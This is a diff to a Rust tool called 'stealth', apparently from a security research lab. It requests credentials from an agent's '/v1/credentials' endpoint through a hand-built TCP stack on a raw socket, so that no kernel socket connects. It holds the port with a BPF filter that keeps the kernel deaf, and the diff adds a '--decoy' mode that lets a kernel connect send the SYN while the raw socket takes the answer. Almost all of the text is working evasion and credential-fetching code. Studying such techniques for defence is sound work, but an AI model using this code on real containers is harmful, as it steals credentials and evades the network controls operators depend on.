@@ -1,19 +1,24 @@
 //! Asks the agent for credentials with a TCP stack of its own, which needs CAP_NET_RAW only (containerd's default): no socket
 //! of the kernel's ever connects.
 //!
-//! `stealth ADDR:PORT`, IPv4. A raw socket sends and receives. A listening socket that a filter keeps deaf holds the port, so
-//! that the kernel does not answer what comes back with a reset.
+//! `stealth [--decoy] ADDR:PORT`, IPv4. A raw socket sends and receives. A listening socket that a filter keeps deaf holds the
+//! port, so that the kernel does not answer what comes back with a reset. With `--decoy` a connecting socket holds it instead:
+//! its SYN is the kernel's, and it stays deaf to the answer, which the raw socket takes.
 
 use std::{
     net::{Ipv4Addr, SocketAddrV4, TcpListener, UdpSocket},
-    os::fd::AsRawFd,
+    os::fd::OwnedFd,
     time::{Duration, Instant},
 };
 
 use anyhow::{Context, Result, bail, ensure};
-use rustix::net::{
-    AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, ipproto, recv, sendto,
-    socket_with, sockopt,
+use lab::sys::deaf::deafen;
+use rustix::{
+    io::Errno,
+    net::{
+        AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, bind, connect, getsockname,
+        ipproto, recv, sendto, socket_with, sockopt,
+    },
 };
 
 const SYN: u8 = 0x02;
@@ -23,9 +28,9 @@ const ACK: u8 = 0x10;
 const PATIENCE: Duration = Duration::from_secs(10);
 
 fn main() -> Result<()> {
-    let address = std::env::args()
-        .nth(1)
-        .context("usage: stealth ADDR:PORT")?;
+    let mut args = std::env::args().skip(1).peekable();
+    let is_decoy = args.next_if(|arg| arg == "--decoy").is_some();
+    let address = args.next().context("usage: stealth [--decoy] ADDR:PORT")?;
     let server: SocketAddrV4 = address.parse().context(address)?;
     // A datagram socket's connect sends nothing, and tells which address the route takes.
     let probe = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
@@ -33,9 +38,21 @@ fn main() -> Result<()> {
     let std::net::IpAddr::V4(own) = probe.local_addr()?.ip() else {
         bail!("no IPv4 address");
     };
-    let deaf = TcpListener::bind((own, 0)).context("hold a port")?;
-    drop_everything(&deaf)?;
-    let client = SocketAddrV4::new(own, deaf.local_addr()?.port());
+    let holder: OwnedFd = if is_decoy {
+        let decoy = socket_with(
+            AddressFamily::INET,
+            SocketType::STREAM,
+            SocketFlags::CLOEXEC | SocketFlags::NONBLOCK,
+            None,
+        )?;
+        bind(&decoy, &SocketAddrV4::new(own, 0))?;
+        decoy
+    } else {
+        let listener = TcpListener::bind((own, 0)).context("hold a port")?;
+        listener.into()
+    };
+    deafen(&holder).context("attach a filter")?;
+    let client = SocketAddrV4::try_from(getsockname(&holder)?)?;
 
     let socket = socket_with(
         AddressFamily::INET,
@@ -71,10 +88,17 @@ fn main() -> Result<()> {
         bail!("no answer from {server}")
     };
 
-    send(stack.segment(SYN, b""))?;
+    if is_decoy {
+        ensure!(
+            connect(&holder, &server) == Err(Errno::INPROGRESS),
+            "the decoy's connect does not stay in progress"
+        );
+    } else {
+        send(stack.segment(SYN, b""))?;
+    }
     let greeting = answer(&stack)?;
     ensure!(greeting.flags & (SYN | ACK) == SYN | ACK, "no SYN-ACK");
-    stack.next += 1;
+    stack.next = greeting.acknowledged;
     stack.expected = greeting.sequence.wrapping_add(1);
     let request = format!(
         "GET /v1/credentials HTTP/1.1\r\nhost: {}\r\n\r\n",
@@ -96,36 +120,6 @@ fn main() -> Result<()> {
     Ok(())
 }
 
-/// A classic BPF program of one instruction: accept 0 bytes of each packet.
-fn drop_everything(listener: &TcpListener) -> Result<()> {
-    let mut accept_nothing = libc::sock_filter {
-        code: u16::try_from(libc::BPF_RET | libc::BPF_K)?,
-        jt: 0,
-        jf: 0,
-        k: 0,
-    };
-    let program = libc::sock_fprog {
-        len: 1,
-        filter: &raw mut accept_nothing,
-    };
-    // SAFETY: the program points at one live instruction, and its length and the option's are right.
-    let result = unsafe {
-        libc::setsockopt(
-            listener.as_raw_fd(),
-            libc::SOL_SOCKET,
-            libc::SO_ATTACH_FILTER,
-            (&raw const program).cast(),
-            u32::try_from(size_of_val(&program))?,
-        )
-    };
-    ensure!(
-        result == 0,
-        "attach a filter: {}",
-        std::io::Error::last_os_error()
-    );
-    Ok(())
-}
-
 struct Stack {
     client: SocketAddrV4,
     server: SocketAddrV4,
@@ -137,6 +131,7 @@ struct Stack {
 struct Segment {
     flags: u8,
     sequence: u32,
+    acknowledged: u32,
     length: u32,
 }
 
@@ -179,6 +174,7 @@ impl Stack {
         Some(Segment {
             flags: *segment.get(13)?,
             sequence: u32::from_be_bytes(segment.get(4..8)?.try_into().ok()?),
+            acknowledged: u32::from_be_bytes(segment.get(8..12)?.try_into().ok()?),
             length: u32::try_from(segment.len().checked_sub(offset)?).ok()?,
         })
     }
